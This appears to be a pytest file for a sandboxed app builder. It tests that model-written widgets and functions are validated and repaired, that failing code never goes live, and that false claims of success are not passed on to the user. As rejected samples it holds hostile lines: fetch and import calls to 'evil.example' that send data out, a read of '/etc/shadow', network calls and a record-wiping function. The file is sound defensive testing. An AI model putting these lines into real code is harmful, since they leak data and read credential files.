"""Widgets and functions that a model writes: what holds is in the app, what does not never is, and the person hears the truth."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from making_samples import (
    NEXT,
    PICTURE,
    RAISE,
    RAISED,
    RENT,
    SEEN,
    WISHES,
    changed,
    said,
    with_function,
    with_models,
    with_rows,
    with_widget,
)

from calisson.app import Home
from calisson.apps import parse_spec
from calisson.assistant.types import TurnResult
from calisson.language.phrases import phrase
from calisson.making import Progress, examine
from calisson.making.code import reaching
from calisson.making.shape import for_model, read
from calisson.testing import Answer, ScriptedServer

CHANGE = "change the app so that it suggests who should pay less"


@pytest.fixture
def home(tmp_path: Path) -> Iterator[Home]:
    with Home(tmp_path / "home") as opened:
        yield opened


def talk(home: Home, *steps: Any, text: str = WISHES["en"]) -> tuple[TurnResult, list[str], int]:
    """Say a wish to a scripted model; return the result, what was found round by round, and how often it was asked."""
    seen: list[Progress] = []
    with ScriptedServer(steps) as server:
        with_models(home, server)
        result = next(e.result for e in home.stream(text, watch=seen.append) if e.result)
        found = [str(p.data["findings"]) for p in seen if p.step == "check"]
        return result, found, len(server.requests)


def made(result: TurnResult) -> dict[str, Any]:
    assert result.app is not None and result.act in ("create_app", "edit_app"), result.reply
    return result.app


def test_a_model_writes_a_widget(home: Home) -> None:
    result, found, asked = talk(home, said(with_widget()))
    app = made(result)
    assert (asked, found) == (1, ["[]"])
    assert app["widget"]["code"] == PICTURE and app["views"][0]["kind"] == "custom"
    assert app["widget"]["access"] == {"reads": ["flatmate.share"], "writes": []}


WRONG_WIDGETS = {
    "syntax error": (with_widget(PICTURE.replace("return null;", "return (null;")), "line 6"),
    "no component": (with_widget(PICTURE.replace("export default ", "")), "export the component as default"),
    "a library that is not there": (with_widget("import d3 from 'd3';\nd3(1);\n" + PICTURE), "line 1: 'd3' is not there"),
    "an outside module": (with_widget("import 'https://evil.example/x.js';\n" + PICTURE), "line 1: 'https://evil.example/x.js'"),
    "fetch": (with_widget(PICTURE.replace("if (!ready)", "fetch('https://evil.example/?' + theme);\n  if (!ready)")), "line 6: 'fetch'"),
    "a module that is fetched later": (with_widget(PICTURE.replace("null", "import('https://evil.example/x.js') as never")), "'import'"),
    "the page around it": (with_widget(PICTURE.replace("return null", "return (window.parent, null)")), "'parent'"),
    "records of another app": (with_widget(reads=["flatmate", "diary.text"]), "no entity 'diary'"),
    "in no view": ({**with_widget(), "views": RENT["views"]}, "in no view"),
}  # fmt: skip


@pytest.mark.parametrize("fault", WRONG_WIDGETS)
def test_a_wrong_widget_is_mended_or_never_live(home: Home, fault: str) -> None:
    wrong, told = WRONG_WIDGETS[fault]
    result, found, asked = talk(home, said(wrong), said(with_widget()))
    assert told in found[0] and asked == 2 and made(result)["widget"]["code"] == PICTURE
    result, _, asked = talk(home, said(wrong), text=WISHES["de"])
    assert asked == 2 and made(result)["widget"] is None
    assert result.reply.startswith(phrase("de", "making-ended-repetition"))


def test_words_in_texts_and_remarks_reach_for_nothing() -> None:
    calm = "// fetch(x)\nconst a = 'fetch(y)'; /* new Worker( */ const b = `eval(${a})`; prefetch(a); a.fetch(); function fetch() {}\n"
    assert reaching(calm) == []
    assert reaching(calm + "const c = `${fetch(a)}`;\nnew WebSocket(a); document.cookie;") == [
        ("fetch", 3), ("WebSocket", 4), ("cookie", 4)
    ]  # fmt: skip


def test_a_widget_that_is_not_mentioned_stays_until_it_is_removed(home: Home) -> None:
    app = made(talk(home, said(with_widget()))[0])
    result, _, _ = talk(home, said(changed(name="Renamed")), text=CHANGE)
    now = home.apps.get(app["id"]).spec
    assert result.act == "edit_app" and now.widget is not None and now.widget.code == PICTURE
    assert [v.kind for v in now.views] == ["table", "stat", "custom"]
    result, _, _ = talk(home, said(changed(removed=["widget"])), text=CHANGE)
    now = home.apps.get(app["id"]).spec
    assert now.widget is None and [v.kind for v in now.views] == ["table", "stat"]


def test_what_a_model_is_shown_of_code_reads_back() -> None:
    spec = parse_spec({**with_widget(), "functions": with_function()["functions"]})
    back, findings = read(for_model(spec), spec, "en")
    assert back == spec and findings == () and not examine(spec)


def test_a_model_writes_a_function_and_the_person_runs_it(home: Home) -> None:
    result, found, asked = talk(home, said(with_function()))
    app = made(result)
    assert (asked, found) == (1, ["[]"])
    with home.by_hand() as tx:
        one = home.apps.add(tx, app["id"], None, {"person": "Ida", "rent": 900})
    done = home.call_function(app["id"], "raise_rent", {"percent": "10"})
    assert done["changed"] == 1 and home.apps.record(one.id).values["rent"] == 990
    home.undo(done["turn_id"])
    assert home.apps.record(one.id).values["rent"] == 900


def test_examples_that_fail_twice_and_then_hold(home: Home) -> None:
    off = with_function(RAISE.replace("1 + more", "1 - more"))
    cents = with_function(RAISE.replace('round(r["rent"] * (1 + more / 100), 2)', "'110'"))
    result, found, asked = talk(home, said(off), said(cents), said(with_function()))
    assert asked == 3 and made(result)["functions"][0]["code"] == RAISE
    assert "example 1: expected change" in found[0] and "90.0" in found[0] and "'110'" in found[1]


BODY = "def raise_rent(records, inputs):\n    {}\n"
NOTHING = [{"output": {}}, {"inputs": {"percent": "1"}, "output": {}}]
WRONG_FUNCTIONS = {
    "no examples": (with_function(examples=[]), "0 examples"),
    "one example": (with_function(examples=RAISED[:1]), "1 examples"),
    "an endless loop": (with_function(BODY.format("while True: pass"), NOTHING), "failed: time"),
    "reads the house": (with_function(BODY.format("return {'message': open('/etc/shadow').read()}"), NOTHING), "example 1"),
    "calls the network": (with_function(BODY.format("import urllib.request; urllib.request.urlopen('http://127.0.0.1')"), NOTHING), "example 1"),
    "falls over words": (with_function(RAISE.replace("except ValueError", "except KeyError"), RAISED[:1] * 2), "inputs"),
    "falls over an empty value": (with_function(RAISE.replace('if r.get("rent") is not None', ""), [
        {"records": {"flatmate": [{"id": "a", "rent": 100}]}, "inputs": {"percent": "10"}, "output": RAISED[0]["output"]}, RAISED[1]]),
        "with empty, smallest and largest values"),
    "writes what it did not declare": (
        with_function(BODY.format("return {'add': [{'entity': 'flatmate', 'values': {'person': 'X'}}]}"), NOTHING), "may not write"),
    "wants what does not fit": (with_function(BODY.format("return {'add': [{'entity': 'flatmate', 'values': {'rent': -5}}]}"), [
        {"output": {"add": [{"entity": "flatmate", "values": {"rent": -5}}]}}] * 2), "would refuse"),
    "another app's records": (with_function(access={"reads": ["diary"], "writes": []}), "no entity 'diary'"),
    "no such function": (with_function("def other(records, inputs): pass"), "defines no function"),
}  # fmt: skip


@pytest.mark.parametrize("fault", WRONG_FUNCTIONS)
def test_a_wrong_function_is_mended_or_never_live(home: Home, fault: str) -> None:
    wrong, told = WRONG_FUNCTIONS[fault]
    result, found, asked = talk(home, said(wrong), said(with_function()))
    assert told in found[0], found[0]
    assert asked == 2 and made(result)["functions"][0]["code"] == RAISE


def test_a_function_that_never_holds_leaves_the_live_version_and_the_truth(home: Home) -> None:
    app = made(talk(home, said(RENT))[0])
    lie = {**with_function(BODY.format("while True: pass"), NOTHING), "summary": "Tested: everything passes."}
    result, _, asked = talk(home, said(lie), text=CHANGE)
    assert asked == 2 and home.apps.get(app["id"]).version == 1
    assert (
        phrase("en", "making-unchanged", name="Rent split") in result.reply and "passes" not in result.reply
    )


def test_a_function_is_tried_on_nobodys_records(home: Home) -> None:
    app = made(talk(home, said(RENT))[0])
    with home.by_hand() as tx:
        one = home.apps.add(tx, app["id"], None, {"person": "Ida", "rent": 900})
    wipe = BODY.format("return {'remove': [r['id'] for r in records['flatmate']]}")
    examples = [
        {"records": {"flatmate": [{"id": "a"}]}, "output": {"remove": ["a"]}},
        {"output": {}, "records": {"flatmate": []}},
    ]
    asks = with_function(wipe, examples, access={"reads": ["flatmate"], "writes": ["flatmate"]})
    assert made(talk(home, said(asks), text=CHANGE)[0])["functions"]
    assert home.apps.record(one.id).values["rent"] == 900


def test_functions_stay_until_they_are_removed_and_are_run_again_at_every_publication(home: Home) -> None:
    app = made(talk(home, said(with_function()))[0])
    talk(home, said(changed(name="Renamed")), text=CHANGE)
    assert [f.name for f in home.apps.get(app["id"]).spec.functions] == ["raise_rent"]
    spec = home.apps.get(app["id"]).spec
    broken = spec.functions[0].model_copy(update={"code": RAISE.replace("1 + more", "1 - more")})
    with home.by_hand() as tx, pytest.raises(Exception, match="example 1"):
        home.apps.publish(tx, app["id"], spec.model_copy(update={"functions": (broken,)}))
    talk(home, said(changed(removed=["raise_rent"])), text=CHANGE)
    assert home.apps.get(app["id"]).spec.functions == ()


def test_words_instead_of_code_end_in_a_plain_app(home: Home) -> None:
    result, _, _ = talk(home, Answer("I wrote the widget, it works in every browser."))
    assert made(result)["widget"] is None and result.reply.startswith(phrase("en", "making-ended-unusable"))


def test_a_function_that_sees_earlier_entries(home: Home) -> None:
    app = made(talk(home, said(with_rows()))[0])
    with home.by_hand() as tx:
        many = [
            home.apps.add(tx, app["id"], None, {"person": "Ida", "rent": rent}) for rent in (900, 1100, 500)
        ]
    assert [r.computed["next"] for r in many] == [900, 918, 1020]


SLOW = """
def next_rent(rent, rows):
    n = 0
    for a in rows:
        for b in rows:
            for c in range(99):
                n += 1
    return rent
"""
WRONG_ROWS = {
    "falls over the first entry": (with_rows(NEXT.replace("if not before:", "if not rows[0]:"), SEEN[1:] * 2), "0 earlier entries"),
    "falls over gaps": (with_rows(NEXT.replace(" if r[\"rent\"] is not None", ""), [SEEN[0], SEEN[0]]), "earlier entries"),
    "too slow for many": (with_rows(SLOW, [SEEN[0], {**SEEN[1], "output": 500}], last=1000), "1000 earlier entries"),
    "sees what is not there": (with_rows(rows=["price"]), "no field 'price'"),
    "sees what it makes itself": (with_rows(rows=["next"]), "itself computed from earlier entries"),
    "an example without its rows": (with_rows(examples=[SEEN[0], {**SEEN[1], "rows": []}]), "expected 1020"),
}  # fmt: skip


@pytest.mark.parametrize("fault", WRONG_ROWS)
def test_a_wrong_look_at_earlier_entries_is_mended(home: Home, fault: str) -> None:
    wrong, told = WRONG_ROWS[fault]
    result, found, asked = talk(home, said(wrong), said(with_rows()))
    assert told in found[0], found[0]
    assert asked == 2 and made(result)["logic"][0]["code"] == NEXT
